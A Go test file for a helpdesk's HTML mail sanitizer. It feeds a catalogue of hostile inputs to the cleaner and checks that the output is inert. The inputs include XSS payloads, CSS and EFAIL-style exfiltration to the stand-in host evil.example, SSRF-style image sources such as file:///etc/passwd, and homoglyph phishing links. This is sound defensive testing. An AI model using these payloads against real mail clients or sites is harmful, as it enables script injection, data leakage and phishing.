package web

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// testView shows one picture of the mail's own.
var testView = mailView{
	Own: func(ref string) string {
		if ref == "known@mail" {
			return "/attachments/abc"
		}
		return ""
	},
	Missing: func(host string) string { return "no picture of " + host },
	Leads:   func(host string) string { return "leads to " + host },
}

func cleaned(t *testing.T, raw string) cleanMail {
	t.Helper()
	c, err := newMailCleaner().clean([]byte(raw), testView)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// hostileHTML is a zoo of what mails try.
var hostileHTML = map[string]string{
	"script":            `<p>a</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	"handlers":          `<img src="cid:known@mail" onerror=alert(1)><p onclick="x()">a</p><body onload=alert(1)><a href="#" onmouseover='x'>b</a>`,
	"javascript":        `<a href="javascript:alert(1)">a</a><a href=" java&#x0A;script:alert(1)">b</a><a href="JaVaScRiPt:x">c</a><a href="vbscript:x">d</a>`,
	"data":              `<a href="data:text/html,<script>alert(1)</script>">a</a><img src="data:image/svg+xml;base64,PHN2Zz4="><iframe src="data:text/html,x"></iframe>`,
	"styles":            `<p style="background:url(https://evil.example/a.png)">a</p><p style="width:expression(alert(1))">b</p><div style="position:fixed;top:0;left:0;width:100%;height:100%">c</div><style>@import 'https://evil.example/x.css'; p{background:url(//evil.example)}</style><p style="background-image:\75rl(x)">d</p><p style="behavior:url(x)">e</p>`,
	"frames and forms":  `<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=q><button>go</button></form><object data=x></object><embed src=x>`,
	"svg":               `<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><math><mtext><script>x</script></mtext></math>`,
	"mutation":          `<noscript><p title="</noscript><img src=x onerror=alert(1)>">a<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	"meta and base":     `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>`,
	"comments":          `<!--[if mso]><script>alert(1)</script><![endif]--><!-- --!><script>x</script>-->`,
	"efail":             `<img src="https://evil.example/`,
	"utf-7":             `+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>a</p>`,
	"names":             `<p id="main" class="sheet">a</p><a name="x" id="live">b</a>`,
	"nul":               "<scr\x00ipt>alert(1)</scr\x00ipt><p>a</p>",
	"template syntax":   `{{.Secret}}<p>{{template "x"}}</p>`,
	"srcset and poster": `<img srcset="https://evil.example/1.png 1x" src="cid:known@mail"><video poster="https://evil.example/p.png"><source src=x></video>`,
	"deep nesting":      strings.Repeat("<div><b>", 3000) + "the words" + strings.Repeat("</b></div>", 3000),
	"background":        `<table background="https://evil.example/b.png"><tr><td background=//evil.example/c.png style="background:#fff url('https://evil.example/d.png')">a</td></tr></table><body background=https://evil.example/e.png>`,
	"style sheets":      `<style>@import "//evil.example/a.css"; @font-face{font-family:x;src:url(//evil.example/f)} p.a{background-image:url(//evil.example/a)} p.a:after{content:url(//evil.example/b)} .a{list-style:url(x);cursor:url(y);color:red} @media screen{.a{background:url(z)}}</style><p class=a>a</p>`,
	"escaped styles":    `<p style="back\67round:u\72l(//evil.example)">a</p><p style="background:u/**/rl(//evil.example)">b</p><p style="color:red;}body{background:url(//evil.example)}">c</p>`,
	"loaders":           `<link rel=preload href=//evil.example><link rel=dns-prefetch href=//evil.example><audio src=//evil.example autoplay><track src=//evil.example></audio><input type=image src=//evil.example><a ping=//evil.example href=https://a.example>a</a><img lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example><blockquote cite=//evil.example>a</blockquote><img usemap=#m src=cid:known@mail>`,
	"frameset":          `<frameset><frame src=//evil.example></frameset><portal src=//evil.example></portal><fencedframe></fencedframe>`,
	"namespaces":        `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:rect><v:fill src="https://evil.example/x"/></v:rect><?xml-stylesheet href="//evil.example"?><![CDATA[<img src=//evil.example>]]>`,
	"efail across":      `<img src="https://evil.example/?` + "\n-----BEGIN PGP MESSAGE-----\n" + `"><p>a</p>`,
	"unclosed":          `<div><table><tr><td><a href="https://a.example">x<p title="`,
	"closing the frame": `</div></body></html><script>x</script><p>after</p></table></td>`,
	"data pages":        `<a href="data:text/html;base64,PHNjcmlwdD4=">a</a><img src="data:text/html,x"><img src="data:image/svg+xml,<svg onload=alert(1)>"><img src=" data:image/png;base64,AAAA&#10;">`,
	"private pictures":  `<img src="https://192.168.1.1/reboot"><img src="https://[::1]/"><img src="https://router/"><img src="https://printer.local/"><img src="https://a.example:8443/"><img src="https://2130706433/"><img src="https://user@a.example/"><img src="file:///etc/passwd"><img src="blob:x"><img src="http://0x7f.1/">`,
}

func TestMailHTMLIsInert(t *testing.T) {
	for name, raw := range hostileHTML {
		t.Run(name, func(t *testing.T) {
			c := cleaned(t, raw)
			if err := notInert(c.HTML, false); err != nil {
				t.Fatalf("%v in %q", err, c.HTML)
			}
		})
	}
}

func TestMailHTMLKeepsWhatIsHarmless(t *testing.T) {
	c := cleaned(t, `<h1 style="color:#c00; font-size:14pt">Hi</h1><table border="1" cellpadding="3"><tr><td style="background-color:yellow" colspan="2">a</td></tr></table><ul><li>x</li></ul>`)
	for _, want := range []string{"<h1", "color: #c00", "font-size: 14pt", `<table border="1"`, "background-color: yellow", `colspan="2"`, "<li>x</li>"} {
		if !strings.Contains(c.HTML, want) {
			t.Errorf("%q is gone: %s", want, c.HTML)
		}
	}
}

func TestMailPictures(t *testing.T) {
	c := cleaned(t, `<img src="cid:known@mail" alt="a"><img src="cid:other@mail"><img src="https://evil.example/t.gif" width="1"><img src="//10.0.0.1/t.gif"><img src="/attachments/other" height="1"><img src="data:image/png;base64,iVBORw0KGgo=">`)
	if strings.Count(c.HTML, "<img") != 2 || strings.Count(c.HTML, "hd-pic") != 2 || !strings.Contains(c.HTML, `src="/attachments/abc"`) || !strings.Contains(c.HTML, "data:image/png") {
		t.Fatalf("kept %s", c.HTML)
	}
	if c.Blocked != 0 || c.Trackers != 1 {
		t.Fatalf("%d pictures are said to be blocked and %d to be trackers", c.Blocked, c.Trackers)
	}
}

func TestMailLinksShowWhereTheyLead(t *testing.T) {
	c := cleaned(t, `<a href="https://evil.example/login" title="https://bank.example" target="_top">https://bank.example</a>`)
	for _, want := range []string{`title="https://evil.example/login"`, `target="_blank"`, "noopener", "noreferrer"} {
		if !strings.Contains(c.HTML, want) {
			t.Errorf("%q is missing in %s", want, c.HTML)
		}
	}
	if strings.Contains(c.HTML, "_top") || strings.Contains(c.HTML, `title="https://bank.example"`) {
		t.Errorf("the mail's own attributes are left: %s", c.HTML)
	}
}

// TestCorpusHTMLIsInert runs every HTML-looking specimen of the shared corpus,
// when it is there, through the cleaner: whole mails, headers and all, which is
// harsher than what it gets in life.
func TestCorpusHTMLIsInert(t *testing.T) {
	dir := os.Getenv("HELPDESKD_CORPUS")
	if dir == "" {
		dir = filepath.Join("..", "..", "shared", "corpus")
	}
	files, _ := filepath.Glob(filepath.Join(dir, "*", "*.eml"))
	if len(files) == 0 {
		t.Skip("the corpus is not there: set HELPDESKD_CORPUS to its folder")
	}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		c := cleaned(t, string(b))
		if err := notInert(c.HTML, false); err != nil {
			t.Errorf("%s: %v", filepath.Base(f), err)
		}
	}
}

// TestMailHTMLTakesBoundedTime: what is made to be read slowly is not, at the
// largest size that is shown.
func TestMailHTMLTakesBoundedTime(t *testing.T) {
	style := func(text string) string { return `<p style="` + text + `">a</p>` }
	many := func(text string) string { return strings.Repeat(text, maxMailHTML/len(text)) }
	for name, raw := range map[string]string{
		"brackets": style(many("(")), "at-rules": style(many("@a ")), "fonts": style("font-family:" + many("a,")), "comments": style(many("/*")), "lengths": style("margin:" + many("1px ")), "braces": style(many("a:{")),
		"many styles": many(style(strings.Repeat("(", 900))), "nesting": many("<div><b><table>"), "attributes": "<p " + many("a=b ") + ">", "ordinary": many(style("color:red;margin:1px 2px")),
	} {
		t.Run(name, func(t *testing.T) {
			done := make(chan time.Duration, 1)
			start := time.Now()
			go func() {
				cleaned(t, raw)
				done <- time.Since(start)
			}()
			select {
			case took := <-done:
				t.Logf("%s", took)
			case <-time.After(20 * time.Second): // two busy cores; one second when idle
				t.Fatalf("4 MB are not cleaned within %s", time.Since(start))
			}
		})
	}
	if c := cleaned(t, `<p style="color:red">a</p>`+style(strings.Repeat("color:red;", 200))); strings.Count(c.HTML, "color: red") != 1 || strings.Count(c.HTML, "<p") != 2 {
		t.Errorf("a long style takes more than itself away: %.300s", c.HTML)
	}
}

func TestLinkifyTakesBoundedTime(t *testing.T) {
	start := time.Now()
	linkify("http://a" + strings.Repeat(")", 1<<20))
	if took := time.Since(start); took > 3*time.Second { // 30 s when each bracket looks through all the others
		t.Errorf("a megabyte of brackets takes %s", took)
	}
}

func TestLinkify(t *testing.T) {
	for text, want := range map[string]string{
		"see https://a.example/x.":             `see <a href="https://a.example/x" target="_blank" rel="noopener noreferrer nofollow">https://a.example/x</a>.`,
		"(https://a.example/b)":                `(<a href="https://a.example/b" target="_blank" rel="noopener noreferrer nofollow">https://a.example/b</a>)`,
		"<b>":                                  "&lt;b&gt;",
		`https://a.example/"onclick="alert(1)`: `<a href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">https://a.example/</a>&#34;onclick=&#34;alert(1)`,
		"javascript:alert(1)":                  "javascript:alert(1)",
	} {
		if got := string(linkify(text)); got != want {
			t.Errorf("linkify(%q) = %s, want %s", text, got, want)
		}
	}
}

func TestMailLies(t *testing.T) {
	const safe = "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.bank.example%2Flogin&data=05&sdata=x"
	for _, c := range []struct {
		words, href string
		lies        bool
	}{
		{"https://bank.example/login", "https://evil.example/", true},
		{"bank.example", "https://evil.example/", true},
		{"www.bank.example", "https://bank.example.evil.example/", true},
		{"https://corp.example/login", "https://corp.example@evil.example/", true},
		{"bank.example", "https://bаnk.example/", true}, // a Cyrillic а
		{"it@corp.example", "mailto:thief@evil.example", true},
		{"bank.example", "https://www.bank.example/", false},
		{"https://login.bank.example", "https://bank.example/", false},
		{"bank.example", "https://login.bank.example/", false},
		{"www.bank.example", safe, false},
		{"www.other.example", safe, true},
		{"bank.example", "https://urldefense.com/v3/__https://bank.example/x__;!!abc", false},
		{"bank.example", "https://urldefense.proofpoint.com/v2/url?u=https-3A__bank.example_x&d=D", false},
		{"it@corp.example", "mailto:it@corp.example?subject=x", false},
		{"it@corp.example", "https://corp.example/contact", false},
		{"click here", "https://evil.example/", false},
		{"Version 2.0 is out", "https://a.example/", false},
		{"", "https://a.example/", false},
		// an address among words, in every spelling that browsers take
		{"Sign in at https://bank.example/login", "https://evil.example/", true},
		{"https://bank.example/login please", "https://evil.example/", true},
		{"https://bank.example/login evil.example", "https://evil.example/", true},
		{"www.bank.example ›", "https://evil.example/", true},
		{"bank.example →", "https://evil.example/", true},
		{"\u200bhttps://bank.example/login", "https://evil.example/", true},
		{"bank\u200b.example", "https://evil.example/", true},
		{"ba\u00adnk.example", "https://evil.example/", true},
		{"https://\u202ebank.example", "https://evil.example/", true},
		{"https://bank\u2024example/", "https://evil.example/", true},
		{"https://bank.example\uff0flogin", "https://evil.example/", true},
		{`https:\\bank.example\login`, "https://evil.example/", true},
		{"https:/bank.example/", "https://evil.example/", true},
		{"https://192.0.2.1/login", "https://evil.example/", true},
		{"bank.com", "https://com/", true},
		{"See https://bank.example/a for more", "https://www.bank.example/a", false},
		{"https://bank.example:8443/", "https://bank.example/", false},
		{"https://bänk.example", "https://xn--bnk-qla.example/", false},
		// files in the cloud
		{"Report.docx", "https://tenant.cloud.example/x", false},
		{"scan.final.pdf", "https://tenant.cloud.example/x", false},
	} {
		target := linkTarget(c.href)
		if address, _, ok := strings.Cut(target, "?"); ok {
			target = address
		}
		if got := lies(c.words, target); got != c.lies {
			t.Errorf("%q that leads to %q (%s): %v", c.words, c.href, target, got)
		}
	}
}

// TestMailLinkHides: what nobody sees of a link's words says nothing about it.
func TestMailLinkHides(t *testing.T) {
	const link, end = `<a href="https://evil.example/">`, `</a>`
	for name, words := range map[string]string{
		"no size":       `https://bank.example/x<span style="font-size:0">.evil.example</span>`,
		"tiny":          `https://bank.example/x<span style="font-size:.1em"> evil.example</span>`,
		"not displayed": `https://bank.example/x<span style="display:none">y evil.example</span>`,
		"in front":      `<span style="display:none">Dear reader </span>bank.example`,
		"smaller":       `bank.example<b style="font-size:50%"><b style="font-size:50%"><b style="font-size:50%"> !</b></b></b>`,
		"far behind":    strings.Repeat("go on ", 100) + `https://bank.example`,
	} {
		if c := cleaned(t, link+words+end); c.Lies != 1 {
			t.Errorf("%s: %s", name, c.HTML)
		}
	}
	for name, words := range map[string]string{
		"part of another": `go to evil.example.bank.example now`,
		"as a path":       `my page/evil.example`,
		"unseen":          `sign in<span style="display:none">https://evil.example</span>`,
	} {
		if c := cleaned(t, link+words+end); !strings.Contains(c.HTML, `class="hd-to`) {
			t.Errorf("%s: nothing says where it leads: %s", name, c.HTML)
		}
	}
}

func TestMailKeepsLegible(t *testing.T) {
	for name, x := range map[string]struct{ raw, want, not string }{
		"white on our paper":      {`<p style="color:#fff">x</p>`, "color: #1d2126", ""},
		"a font's white":          {`<font color="white">x</font>`, "color: #1d2126", ""},
		"a dark body":             {`<body bgcolor="#111111" text="#eeeeee"><p>x</p>`, "background-color: #111111", "#1d2126"},
		"a dark body, no ink":     {`<body style="background:#111"><p>x</p>`, "color: #ffffff", ""},
		"a link in the dark":      {`<td bgcolor="#10182c"><a href="https://a.example">x</a></td>`, `noreferrer nofollow" style="color: #ffffff"`, ""},
		"black in a dark cell":    {`<table><tr><td bgcolor="navy"><span style="color:black">x</span></td></tr></table>`, "color: black; color: #ffffff", ""},
		"white on a dark cell":    {`<table><tr><td bgcolor="navy"><span style="color:white">x</span></td></tr></table>`, "color: white", "color: white;"},
		"grey is a choice":        {`<p style="color:#999">x</p>`, "color: #999", "#1d2126"},
		"a class from a sheet":    {`<style>.x{background:#000} .y{color:#fff}</style><div class="x"><p class=y>x</p></div>`, "background-color: #000", "#1d2126"},
		"a picture behind white":  {`<td style="background:url(https://a.example/x.png);color:#ffffff">x</td>`, "color: #1d2126", ""},
		"Word's paragraphs":       {`<style><!-- p.MsoNormal, li.MsoNormal {mso-style-unhide:no; margin:0cm; font-size:11.0pt;} --></style><p class=MsoNormal>x<o:p></o:p></p>`, "margin: 0cm", ""},
		"text as glass":           {`<p style="color:transparent">x</p>`, "<p style=\"\">x", "transparent"},
		"glass in hex":            {`<p style="color:#00000000">a</p><p style="color:#0000">x</p>`, "<p style=\"\">x", "#0000"},
		"glass by numbers":        {`<p style="color:rgba(0,0,0,0)">x</p>`, ">x", "rgba"},
		"the system's white":      {`<p style="color:canvas">x</p><font color=fffffffff>x</font>`, ">x", "canvas"},
		"the system's black":      {`<p style="background-color:canvastext">x</p>`, ">x", "canvastext"},
		"white that is inherited": {`<p style="color:#fff;background-color:#000"><a href="https://a.example" style="color:inherit;background-color:#fff">x</a></p>`, "color: inherit; background-color: #fff; color: #1d2126", ""},
		"a veil is not dark":      {`<p style="background-color:#00000011">x</p>`, ">x", "#00000011"},
		"yellow on a marker":      {`<mark style="color:yellow">x</mark>`, "color: #1d2126", ""},
		"own words before":        {`<style>p{color:red}</style><p style="color:blue">x</p>`, "color: blue", ""},
	} {
		c := cleaned(t, x.raw)
		if !strings.Contains(c.HTML, x.want) || x.not != "" && strings.Contains(c.HTML, x.not) {
			t.Errorf("%s: %s", name, c.HTML)
		}
	}
}

func TestDeepMailKeepsItsWords(t *testing.T) {
	c := cleaned(t, strings.Repeat("<div><b>", 3000)+"the words"+strings.Repeat("</b></div>", 3000)+"<p>the end</p>")
	if !strings.Contains(c.HTML, "the words") || !strings.HasSuffix(c.HTML, "<p>the end</p>") || strings.Count(c.HTML, "<div>") > maxDepth {
		t.Errorf("%.100s … %.100s", c.HTML, c.HTML[len(c.HTML)-100:])
	}
	if c := cleaned(t, strings.Repeat("<p>a<li>b<td>c", 2000)); strings.Count(c.HTML, "<p>") != 2000 {
		t.Errorf("%d of 2000 paragraphs are left", strings.Count(c.HTML, "<p>"))
	}
}

func TestMailPicturesOnRequest(t *testing.T) {
	const raw = `<img src="http://cdn.shop.example/a.png" alt="Sale"><img src="//cdn.shop.example/b.png"><img src="https://t.shop.example/o.gif" width="1" height="1"><img src="https://t.shop.example/o.gif" style="display:none"><img src="https://10.0.0.1/x.png">`
	c := cleaned(t, raw)
	if c.Blocked != 2 || c.Trackers != 2 || strings.Contains(c.HTML, "<img") || !strings.Contains(c.HTML, "Sale · no picture of cdn.shop.example") {
		t.Errorf("%+v", c)
	}
	v := testView
	v.Pictures = true
	c, err := newMailCleaner().clean([]byte(raw), v)
	if err != nil {
		t.Fatal(err)
	}
	if c.Shown != 2 || c.Trackers != 2 || c.Blocked != 0 || strings.Count(c.HTML, "<img") != 2 || !strings.Contains(c.HTML, `src="https://cdn.shop.example/a.png"`) || strings.Count(c.HTML, `referrerpolicy="no-referrer"`) != 2 {
		t.Errorf("%+v", c)
	}
}
